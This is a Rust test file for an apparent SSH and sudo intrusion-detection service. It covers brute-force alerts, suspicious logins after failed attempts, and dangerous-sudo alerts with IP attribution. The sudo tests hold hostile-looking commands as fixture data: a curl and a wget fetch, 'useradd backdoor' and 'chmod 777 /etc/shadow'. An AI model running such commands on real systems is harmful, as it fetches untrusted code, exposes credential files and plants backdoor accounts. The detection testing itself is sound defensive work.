//! Detection rule tests driven directly against the store: brute-force
//! grouping and dedupe, failed-then-success correlation, dangerous sudo
//! matching and source-IP attribution.

use chrono::{DateTime, Duration, Utc};

use authwatch_core::rules::{
    BRUTE_FORCE_THRESHOLD, BRUTE_FORCE_WINDOW_MINUTES, SUDO_WINDOW_MINUTES,
    SUSPICIOUS_FAILED_BEFORE_SUCCESS, SUSPICIOUS_WINDOW_MINUTES,
};
use authwatch_core::{AlertStatus, CoreError};
use authwatch_server::db::{Database, SshAlertFilter, StoredEvent, SudoAlertFilter, SuspiciousLoginFilter};
use authwatch_server::detectors::{
    run_brute_force_scan, run_sudo_scan, run_suspicious_login_scan, scan_with_deadline,
};
use authwatch_server::AppState;

fn setup() -> (Database, String) {
    let db = Database::open_in_memory().unwrap();
    let agent = db.register_agent("web-01").unwrap();
    (db, agent.id)
}

fn ssh_event(ts: DateTime<Utc>, event_type: &str, user: &str, ip: &str) -> StoredEvent {
    StoredEvent {
        ts,
        source: "auth".to_string(),
        event_type: event_type.to_string(),
        severity: 1,
        payload: serde_json::json!({
            "username": user,
            "remote_ip": ip,
            "auth_method": "password",
            "is_root": user == "root",
            "dst_port": 22
        })
        .to_string(),
    }
}

fn sudo_event(ts: DateTime<Utc>, sudo_user: &str, command: &str) -> StoredEvent {
    StoredEvent {
        ts,
        source: "auth".to_string(),
        event_type: "sudo_command".to_string(),
        severity: 1,
        payload: serde_json::json!({
            "sudo_user": sudo_user,
            "target_user": "root",
            "tty": "pts/0",
            "pwd": "/home/alice",
            "command": command,
            "is_target_root": true
        })
        .to_string(),
    }
}

fn alert_filter() -> SshAlertFilter {
    SshAlertFilter {
        window_minutes: BRUTE_FORCE_WINDOW_MINUTES,
        limit: 50,
        ..Default::default()
    }
}

// ----------------------------------------------------------------------
// Brute force
// ----------------------------------------------------------------------

#[test]
fn five_failures_from_one_ip_create_one_alert() {
    let (db, agent_id) = setup();
    let now = Utc::now();
    let events: Vec<_> = (0..BRUTE_FORCE_THRESHOLD)
        .map(|i| {
            ssh_event(
                now - Duration::minutes(i),
                "ssh_failed_login",
                "root",
                "203.0.113.7",
            )
        })
        .collect();
    db.insert_event_batch(&agent_id, &events).unwrap();

    assert_eq!(run_brute_force_scan(&db).unwrap(), 1);

    let alerts = db.list_ssh_alerts(&alert_filter(), Utc::now()).unwrap();
    assert_eq!(alerts.len(), 1);
    let alert = &alerts[0];
    assert_eq!(alert.remote_ip, "203.0.113.7");
    assert_eq!(alert.failed_count, BRUTE_FORCE_THRESHOLD);
    assert_eq!(alert.hostname, "web-01");
    assert_eq!(alert.username, "root");
    assert_eq!(alert.status, "new");
    assert_eq!(alert.rule, "ssh_bruteforce");
    assert_eq!(alert.severity, "medium");
    assert!(alert.first_seen <= alert.last_seen);
}

#[test]
fn four_failures_stay_below_threshold() {
    let (db, agent_id) = setup();
    let now = Utc::now();
    let events: Vec<_> = (0..BRUTE_FORCE_THRESHOLD - 1)
        .map(|i| {
            ssh_event(
                now - Duration::minutes(i),
                "ssh_failed_login",
                "root",
                "203.0.113.7",
            )
        })
        .collect();
    db.insert_event_batch(&agent_id, &events).unwrap();

    assert_eq!(run_brute_force_scan(&db).unwrap(), 0);
}

#[test]
fn rescan_with_more_failures_does_not_duplicate() {
    let (db, agent_id) = setup();
    let now = Utc::now();
    let events: Vec<_> = (0..BRUTE_FORCE_THRESHOLD)
        .map(|i| {
            ssh_event(
                now - Duration::minutes(i),
                "ssh_failed_login",
                "root",
                "203.0.113.7",
            )
        })
        .collect();
    db.insert_event_batch(&agent_id, &events).unwrap();

    assert_eq!(run_brute_force_scan(&db).unwrap(), 1);
    assert_eq!(run_brute_force_scan(&db).unwrap(), 0);

    // more failures from the same IP inside the guard window still dedupe
    db.insert_event_batch(
        &agent_id,
        &[ssh_event(now, "ssh_failed_login", "admin", "203.0.113.7")],
    )
    .unwrap();
    assert_eq!(run_brute_force_scan(&db).unwrap(), 0);
    assert_eq!(
        db.list_ssh_alerts(&alert_filter(), Utc::now())
            .unwrap()
            .len(),
        1
    );
}

#[test]
fn separate_ips_alert_independently() {
    let (db, agent_id) = setup();
    let now = Utc::now();
    let mut events = Vec::new();
    for ip in ["203.0.113.7", "198.51.100.4"] {
        for i in 0..BRUTE_FORCE_THRESHOLD {
            events.push(ssh_event(
                now - Duration::minutes(i),
                "ssh_failed_login",
                "root",
                ip,
            ));
        }
    }
    db.insert_event_batch(&agent_id, &events).unwrap();

    assert_eq!(run_brute_force_scan(&db).unwrap(), 2);
}

#[test]
fn failures_outside_window_are_ignored() {
    let (db, agent_id) = setup();
    let now = Utc::now();
    let stale = now - Duration::minutes(BRUTE_FORCE_WINDOW_MINUTES + 5);
    let events: Vec<_> = (0..BRUTE_FORCE_THRESHOLD)
        .map(|_| ssh_event(stale, "ssh_failed_login", "root", "203.0.113.7"))
        .collect();
    db.insert_event_batch(&agent_id, &events).unwrap();

    assert_eq!(run_brute_force_scan(&db).unwrap(), 0);
}

#[test]
fn severity_scales_with_failure_volume() {
    let (db, agent_id) = setup();
    let now = Utc::now();
    let events: Vec<_> = (0..25)
        .map(|i| {
            ssh_event(
                now - Duration::seconds(i),
                "ssh_failed_login",
                "root",
                "203.0.113.7",
            )
        })
        .collect();
    db.insert_event_batch(&agent_id, &events).unwrap();

    assert_eq!(run_brute_force_scan(&db).unwrap(), 1);
    let alerts = db.list_ssh_alerts(&alert_filter(), Utc::now()).unwrap();
    assert_eq!(alerts[0].failed_count, 25);
    assert_eq!(alerts[0].severity, "critical");
}

#[test]
fn alert_status_transitions_persist() {
    let (db, agent_id) = setup();
    let now = Utc::now();
    let events: Vec<_> = (0..BRUTE_FORCE_THRESHOLD)
        .map(|i| {
            ssh_event(
                now - Duration::minutes(i),
                "ssh_failed_login",
                "root",
                "203.0.113.7",
            )
        })
        .collect();
    db.insert_event_batch(&agent_id, &events).unwrap();
    run_brute_force_scan(&db).unwrap();

    let alerts = db.list_ssh_alerts(&alert_filter(), Utc::now()).unwrap();
    let id = alerts[0].id;

    let updated = db.update_ssh_alert_status(id, AlertStatus::Ack).unwrap();
    assert_eq!(updated.status, "ack");

    // status filter sees the transition
    let filter = SshAlertFilter {
        status: Some("ack".to_string()),
        ..alert_filter()
    };
    assert_eq!(db.list_ssh_alerts(&filter, Utc::now()).unwrap().len(), 1);
    let filter = SshAlertFilter {
        status: Some("new".to_string()),
        ..alert_filter()
    };
    assert_eq!(db.list_ssh_alerts(&filter, Utc::now()).unwrap().len(), 0);
}

// ----------------------------------------------------------------------
// Suspicious logins
// ----------------------------------------------------------------------

fn suspicious_filter() -> SuspiciousLoginFilter {
    SuspiciousLoginFilter {
        window_minutes: SUSPICIOUS_WINDOW_MINUTES,
        limit: 50,
        ..Default::default()
    }
}

#[test]
fn success_after_three_failures_is_flagged() {
    let (db, agent_id) = setup();
    let now = Utc::now();
    let mut events: Vec<_> = (1..=SUSPICIOUS_FAILED_BEFORE_SUCCESS)
        .map(|i| {
            ssh_event(
                now - Duration::minutes(i),
                "ssh_failed_login",
                "alice",
                "198.51.100.4",
            )
        })
        .collect();
    events.push(ssh_event(now, "ssh_login_success", "alice", "198.51.100.4"));
    db.insert_event_batch(&agent_id, &events).unwrap();

    assert_eq!(run_suspicious_login_scan(&db).unwrap(), 1);

    let items = db
        .list_suspicious_logins(&suspicious_filter(), Utc::now())
        .unwrap();
    assert_eq!(items.len(), 1);
    assert_eq!(items[0].username, "alice");
    assert_eq!(items[0].remote_ip, "198.51.100.4");
    assert_eq!(
        items[0].failed_count_before_success,
        SUSPICIOUS_FAILED_BEFORE_SUCCESS
    );
    assert!(items[0].first_failed_at <= items[0].success_at);

    // rescans are no-ops against the identity key
    assert_eq!(run_suspicious_login_scan(&db).unwrap(), 0);
}

#[test]
fn failures_older_than_window_do_not_flag_success() {
    let (db, agent_id) = setup();
    let now = Utc::now();
    let mut events: Vec<_> = (0..SUSPICIOUS_FAILED_BEFORE_SUCCESS)
        .map(|_| {
            ssh_event(
                now - Duration::minutes(SUSPICIOUS_WINDOW_MINUTES + 5),
                "ssh_failed_login",
                "alice",
                "198.51.100.4",
            )
        })
        .collect();
    events.push(ssh_event(now, "ssh_login_success", "alice", "198.51.100.4"));
    db.insert_event_batch(&agent_id, &events).unwrap();

    assert_eq!(run_suspicious_login_scan(&db).unwrap(), 0);
}

#[test]
fn failures_from_other_ip_do_not_count() {
    let (db, agent_id) = setup();
    let now = Utc::now();
    let mut events: Vec<_> = (1..=SUSPICIOUS_FAILED_BEFORE_SUCCESS)
        .map(|i| {
            ssh_event(
                now - Duration::minutes(i),
                "ssh_failed_login",
                "alice",
                "203.0.113.7",
            )
        })
        .collect();
    events.push(ssh_event(now, "ssh_login_success", "alice", "198.51.100.4"));
    db.insert_event_batch(&agent_id, &events).unwrap();

    assert_eq!(run_suspicious_login_scan(&db).unwrap(), 0);
}

// ----------------------------------------------------------------------
// Dangerous sudo
// ----------------------------------------------------------------------

fn sudo_filter() -> SudoAlertFilter {
    SudoAlertFilter {
        window_minutes: SUDO_WINDOW_MINUTES,
        limit: 50,
        ..Default::default()
    }
}

#[test]
fn dangerous_command_creates_alert_with_attributed_ip() {
    let (db, agent_id) = setup();
    let now = Utc::now();
    db.insert_event_batch(
        &agent_id,
        &[
            ssh_event(
                now - Duration::minutes(10),
                "ssh_login_success",
                "alice",
                "192.0.2.55",
            ),
            sudo_event(now - Duration::minutes(2), "alice", "curl http://198.51.100.1/x.sh"),
        ],
    )
    .unwrap();

    assert_eq!(run_sudo_scan(&db).unwrap(), 1);

    let alerts = db.list_sudo_alerts(&sudo_filter(), Utc::now()).unwrap();
    assert_eq!(alerts.len(), 1);
    assert_eq!(alerts[0].sudo_user, "alice");
    assert_eq!(alerts[0].target_user, "root");
    // attributed to the most recent successful login before the command
    assert_eq!(alerts[0].remote_ip, "192.0.2.55");

    // rescan does not duplicate
    assert_eq!(run_sudo_scan(&db).unwrap(), 0);
}

#[test]
fn benign_command_does_not_alert() {
    let (db, agent_id) = setup();
    let now = Utc::now();
    db.insert_event_batch(
        &agent_id,
        &[sudo_event(now, "alice", "/usr/bin/ls /root")],
    )
    .unwrap();

    assert_eq!(run_sudo_scan(&db).unwrap(), 0);
}

#[test]
fn sudo_without_prior_login_gets_empty_ip() {
    let (db, agent_id) = setup();
    db.insert_event_batch(
        &agent_id,
        &[sudo_event(Utc::now(), "alice", "useradd backdoor")],
    )
    .unwrap();

    assert_eq!(run_sudo_scan(&db).unwrap(), 1);
    let alerts = db.list_sudo_alerts(&sudo_filter(), Utc::now()).unwrap();
    assert_eq!(alerts[0].remote_ip, "");
}

#[test]
fn ip_attribution_does_not_cross_agents() {
    let (db, agent_a) = setup();
    let agent_b = db.register_agent("web-02").unwrap().id;
    let now = Utc::now();

    // login on A, dangerous sudo on B
    db.insert_event_batch(
        &agent_a,
        &[ssh_event(
            now - Duration::minutes(5),
            "ssh_login_success",
            "alice",
            "192.0.2.55",
        )],
    )
    .unwrap();
    db.insert_event_batch(&agent_b, &[sudo_event(now, "alice", "wget http://x/y")])
        .unwrap();

    assert_eq!(run_sudo_scan(&db).unwrap(), 1);
    let alerts = db.list_sudo_alerts(&sudo_filter(), Utc::now()).unwrap();
    assert_eq!(alerts[0].hostname, "web-02");
    assert_eq!(alerts[0].remote_ip, "");
}

#[test]
fn attribution_reaches_logins_older_than_the_window() {
    let (db, agent_id) = setup();
    let now = Utc::now();
    // the only login predates the sudo window by days; it still wins the
    // predecessor search
    db.insert_event_batch(
        &agent_id,
        &[
            ssh_event(
                now - Duration::days(3),
                "ssh_login_success",
                "alice",
                "192.0.2.55",
            ),
            sudo_event(now, "alice", "curl http://198.51.100.1/x.sh"),
        ],
    )
    .unwrap();

    assert_eq!(run_sudo_scan(&db).unwrap(), 1);
    let alerts = db.list_sudo_alerts(&sudo_filter(), Utc::now()).unwrap();
    assert_eq!(alerts[0].remote_ip, "192.0.2.55");
}

#[test]
fn login_fetch_keeps_one_pre_window_row_per_agent() {
    let (db, agent_id) = setup();
    let now = Utc::now();
    let mut events = Vec::new();
    // five stale logins, only the newest of which can ever be attributed
    for d in 1..=5 {
        events.push(ssh_event(
            now - Duration::days(d),
            "ssh_login_success",
            "alice",
            &format!("10.0.{d}.1"),
        ));
    }
    events.push(ssh_event(
        now - Duration::minutes(30),
        "ssh_login_success",
        "alice",
        "192.0.2.55",
    ));
    db.insert_event_batch(&agent_id, &events).unwrap();

    let rows = db.success_login_rows(SUDO_WINDOW_MINUTES, now).unwrap();
    assert_eq!(rows.len(), 2);
    // the pre-window survivor is the most recent stale login
    assert_eq!(rows[0].2, "10.0.1.1");
    assert_eq!(rows[1].2, "192.0.2.55");
    assert!(rows[0].1 < rows[1].1);
}

// ----------------------------------------------------------------------
// Run deadline
// ----------------------------------------------------------------------

static SLOW_SCAN_DONE: std::sync::atomic::AtomicBool = std::sync::atomic::AtomicBool::new(false);

fn slow_scan(_db: &Database) -> Result<usize, CoreError> {
    std::thread::sleep(std::time::Duration::from_millis(80));
    SLOW_SCAN_DONE.store(true, std::sync::atomic::Ordering::SeqCst);
    Ok(1)
}

#[tokio::test]
async fn deadline_drains_the_late_run_before_returning() {
    let state = AppState::shared(Database::open_in_memory().unwrap());
    let result =
        scan_with_deadline(&state, std::time::Duration::from_millis(10), slow_scan).await;
    // the run timed out, and it had fully finished by the time control
    // came back; nothing keeps executing behind the loop's back
    assert!(result.is_none());
    assert!(SLOW_SCAN_DONE.load(std::sync::atomic::Ordering::SeqCst));
}

#[tokio::test]
async fn fast_scan_completes_within_deadline() {
    let state = AppState::shared(Database::open_in_memory().unwrap());
    let result = scan_with_deadline(
        &state,
        std::time::Duration::from_secs(5),
        run_brute_force_scan,
    )
    .await;
    assert_eq!(result.unwrap().unwrap(), 0);
}

#[tokio::test]
async fn interrupt_on_idle_connection_is_harmless() {
    let state = AppState::shared(Database::open_in_memory().unwrap());
    state.db.interrupt();
    assert_eq!(run_brute_force_scan(&state.db).unwrap(), 0);
}

#[test]
fn sudo_alert_filters_by_user() {
    let (db, agent_id) = setup();
    let now = Utc::now();
    db.insert_event_batch(
        &agent_id,
        &[
            sudo_event(now - Duration::minutes(1), "alice", "chmod 777 /etc/shadow"),
            sudo_event(now, "bob", "passwd root"),
        ],
    )
    .unwrap();
    assert_eq!(run_sudo_scan(&db).unwrap(), 2);

    let filter = SudoAlertFilter {
        sudo_user: Some("alice".to_string()),
        ..sudo_filter()
    };
    let alerts = db.list_sudo_alerts(&filter, Utc::now()).unwrap();
    assert_eq!(alerts.len(), 1);
    assert_eq!(alerts[0].sudo_user, "alice");
}
